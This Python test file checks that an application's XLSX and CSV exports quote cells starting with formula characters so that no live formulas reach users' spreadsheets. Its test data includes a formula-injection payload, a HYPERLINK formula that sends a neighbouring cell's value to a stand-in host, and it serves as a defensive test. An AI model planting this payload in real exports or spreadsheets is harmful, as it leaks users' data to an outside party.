"""Exports never carry live formulas: every text cell is text, formula starts are quoted."""

import csv
import io

from openpyxl import load_workbook

from grader.services.tables import write_csv, write_xlsx

EVIL = '=HYPERLINK("http://e.x/?"&E2,"c")'
STARTS = [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [c for row in sheet.iter_rows() for c in row]


def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers():
    cells = _cells(write_xlsx("t", ["姓名", "数"], [[s, 5] for s in STARTS]))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.column == 1][1:]
    assert texts == ["'" + s for s in STARTS]
    assert {c.value for c in cells if c.column == 2} == {"数", 5}


def test_csv_quotes_every_formula_start():
    rows = list(csv.reader(io.StringIO(write_csv(["姓名"], [[s] for s in STARTS]).decode(
        "utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + s for s in STARTS]
    assert write_csv(["a"], [["普通", 3]]).decode("utf-8-sig").splitlines()[1] == "普通,3"


def test_support_partner_exports_carry_no_formula(session, make_township, make_candidate,
                                                  make_user, client, auth):
    partner = make_candidate(make_township("城关镇"))
    partner.name, partner.stage = EVIL, "signed"
    make_user("county", "county_staff")
    session.commit()
    auth.login("county")
    cells = _cells(client.get("/interview/support-partners.xlsx").data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]
    text = client.get("/interview/support-partners.csv").data.decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text and ",=HYPERLINK" not in text
